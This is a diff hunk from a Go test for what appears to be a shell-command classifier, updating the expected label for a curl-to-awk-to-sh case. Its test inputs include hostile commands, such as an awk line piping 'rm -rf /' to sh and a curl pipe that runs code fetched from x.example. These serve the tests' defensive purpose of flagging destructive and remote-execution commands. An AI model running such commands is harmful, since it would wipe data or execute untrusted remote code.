@@ -69,7 +69,7 @@ func TestVerbsAwk(t *testing.T) {
 		{"gawk -i inplace '{print}' a", "write /home/u/p/a"},
 		{`awk 'BEGIN{print "rm -rf /" | "sh"}'`, "delete / wide"},
 		{`awk '{print $1 | "sort -n"}' a`, "read /home/u/p/a"},
-		{`curl -s x.example | awk '{print | "sh"}'`, "fetch http://x.example; run-remote x.example"},
+		{`curl -s x.example | awk '{print | "sh"}'`, "fetch http://x.example; run-remote http://x.example"},
 		{"awk 'NR==FNR{a[$1]=$2;next} $1 in a {print a[$1]}' f1 f2", "read /home/u/p/f1; read /home/u/p/f2"},
 		{`awk -F'|' '{print $2 "|" $3}' a`, "read /home/u/p/a"},
 		{`awk '{ printf "%s\n", $1 > "/dev/stderr" }' a`, "read /home/u/p/a"},
